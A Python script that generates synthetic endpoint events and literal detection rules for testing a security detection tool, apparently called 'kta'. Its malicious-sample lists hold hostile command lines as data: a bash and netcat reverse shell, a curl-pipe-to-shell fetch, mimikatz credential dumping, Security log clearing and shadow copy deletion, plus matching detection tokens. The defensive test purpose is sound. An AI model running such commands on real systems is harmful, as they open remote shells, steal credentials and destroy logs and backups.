#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""gen-jsonl.py - deterministic test input for `kta eval` and `kta run`.

  gen-jsonl.py events N [--seed S] [--malicious P] [--malformed P] [--blank P]
      N endpoint events as JSON lines on stdout, in the shape of
      `kta produce --generate` (process, network, login, file): a share P
      of them carries a pattern the default rules (rules/) detect, a share
      of lines is malformed (truncated, not an object, bad UTF-8, ...) and
      a share is blank.
  gen-jsonl.py rules N [--seed S] [--match P]
      N literal rules (keywords, |contains) on random tokens, a share P of
      them on tokens of the malicious events: the same kinds of rules as
      `kta bench --generate-rules`, as a YAML file on stdout.

Used by tests/cli/run.sh, tests/integration/0015-eval-vs-run.sh and
scripts/eval-vs-bench.sh; nothing in kta depends on it.
"""
import argparse
import json
import random
import sys

BENIGN = [
    ("/usr/bin/python3", "python3 /opt/app/worker.py --queue default"),
    ("/usr/sbin/sshd", "sshd: alice [priv]"),
    ("/usr/bin/ls", "ls -la /var/log"),
    ("/usr/bin/git", "git pull --ff-only origin main"),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ("/usr/bin/curl", "curl -fsS https://updates.example.com/manifest.json -o /tmp/m.json"),
    ("C:\\Windows\\explorer.exe", "explorer.exe"),
]
EVIL = [
    ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("/usr/bin/curl", "curl -s http://203.0.113.9/x.sh | sh"),
    ("C:\\Users\\Public\\mimikatz.exe",
     "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
    ("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 9001"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
]
USERS = ["alice", "bob", "carol", "dave", "svc-backup", "root", "www-data", "eve"]
FILES = ["/etc/hosts", "/var/log/syslog", "/home/alice/.bashrc", "/tmp/build.log"]
EVIL_FILES = ["/etc/shadow", "/root/.ssh/authorized_keys", "/etc/cron.d/persist"]
MALFORMED = [
    b'{"host": "endpoint05", "threat": ',            # truncated
    b'[1, 2, 3]',                                     # not an object
    b'"just a string"',
    b'{"host": "h", "host": "dup"}',                  # duplicate key
    b'{"host": "h\\u0000x"}',                        # NUL escape
    b'{"a": 1,}',                                     # trailing comma
    b'{"cmd": "mimikatz \xff"}',                     # invalid UTF-8
    b'null',
]
EVIL_TOKENS = [
    ("process.command_line", "mimikatz"), ("process.command_line", "/dev/tcp/"),
    ("process.command_line", "delete shadows"), ("process.command_line", "wevtutil.exe cl"),
    ("dst_ip", "203.0.113.7"), ("path", "/etc/shadow"), ("path", "authorized_keys"),
    ("process.executable", "\\Users\\Public\\"), ("process.command_line", "nc -e"),
    ("process.command_line", "| sh"),
]


def event(rnd, n, evil):
    ev = {"host": "endpoint%04d" % rnd.randrange(5000), "ts": 1764230400000 + n * 7}
    kind = rnd.randrange(4)
    if kind == 0:
        exe, cmd = rnd.choice(EVIL if evil else BENIGN)
        ev.update(event_type="process", user=rnd.choice(USERS),
                  process={"pid": rnd.randrange(100, 60000), "ppid": rnd.randrange(1, 5000),
                           "name": exe.replace("\\", "/").rsplit("/", 1)[-1],
                           "executable": exe, "command_line": cmd})
    elif kind == 1:
        ev.update(event_type="network", src_ip="10.%d.%d.%d" % (rnd.randrange(256),
                  rnd.randrange(256), rnd.randrange(1, 255)),
                  src_port=rnd.randrange(32768, 62768),
                  dst_ip="203.0.113.7" if evil else "198.51.100.%d" % rnd.randrange(1, 255),
                  dst_port=4444 if evil else rnd.choice([443, 80, 53, 22]),
                  protocol="tcp", bytes_out=rnd.randrange(100000))
    elif kind == 2:
        ev.update(event_type="login", user=rnd.choice(USERS),
                  src_ip="198.51.100.%d" % rnd.randrange(1, 255),
                  method=rnd.choice(["ssh", "password"]),
                  result="failure" if evil else "success")
        if evil:
            ev["failed_attempts"] = 20 + rnd.randrange(200)
    else:
        ev.update(event_type="file", user=rnd.choice(USERS),
                  path=rnd.choice(EVIL_FILES if evil else FILES),
                  action="write" if evil else rnd.choice(["read", "write"]))
    ev["severity"] = rnd.choice(["high", "critical"]) if evil else \
        rnd.choice(["informational", "low", "medium"])
    return json.dumps(ev, separators=(",", ":"))


def gen_events(a):
    rnd = random.Random(a.seed)
    out = sys.stdout.buffer
    for n in range(a.n):
        r = rnd.random()
        if r < a.blank:
            line = rnd.choice([b"", b"   ", b"\t"])
        elif r < a.blank + a.malformed:
            line = rnd.choice(MALFORMED)
        else:
            line = event(rnd, n, rnd.random() < a.malicious).encode()
        out.write(line + b"\n")


def gen_rules(a):
    rnd = random.Random(a.seed)
    k = max(1, round(a.n * a.match)) if a.match > 0 else 0
    out = ["rules:"]
    for i in range(a.n):
        tok = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10))
        field, value = "process.command_line", tok
        evil = k and (i * k) % a.n < k
        if evil:
            field, value = EVIL_TOKENS[(i * k // a.n) % len(EVIL_TOKENS)]
        out.append("  - id: gen-%05d\n    title: generated rule %d\n    level: %s\n    detection:"
                   % (i, i, "high" if evil else "low"))
        q = value.replace("'", "''")
        if i % 3 == 0:
            out.append("      keywords:\n        - '%s'" % q)
        elif i % 3 == 1:
            out.append("      sel:\n        %s|contains: '%s'" % (field, q))
        else:
            out.append("      sel:\n        %s|contains:\n          - '%s'\n          - '%sx'"
                       % (field, q, tok))
        out.append("      condition: 1 of them")
    sys.stdout.write("\n".join(out) + "\n")


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="what", required=True)
    e = sub.add_parser("events")
    e.add_argument("n", type=int)
    e.add_argument("--seed", type=int, default=1)
    e.add_argument("--malicious", type=float, default=0.01)
    e.add_argument("--malformed", type=float, default=0.0)
    e.add_argument("--blank", type=float, default=0.0)
    r = sub.add_parser("rules")
    r.add_argument("n", type=int)
    r.add_argument("--seed", type=int, default=1)
    r.add_argument("--match", type=float, default=0.01)
    a = p.parse_args()
    gen_events(a) if a.what == "events" else gen_rules(a)


if __name__ == "__main__":
    main()
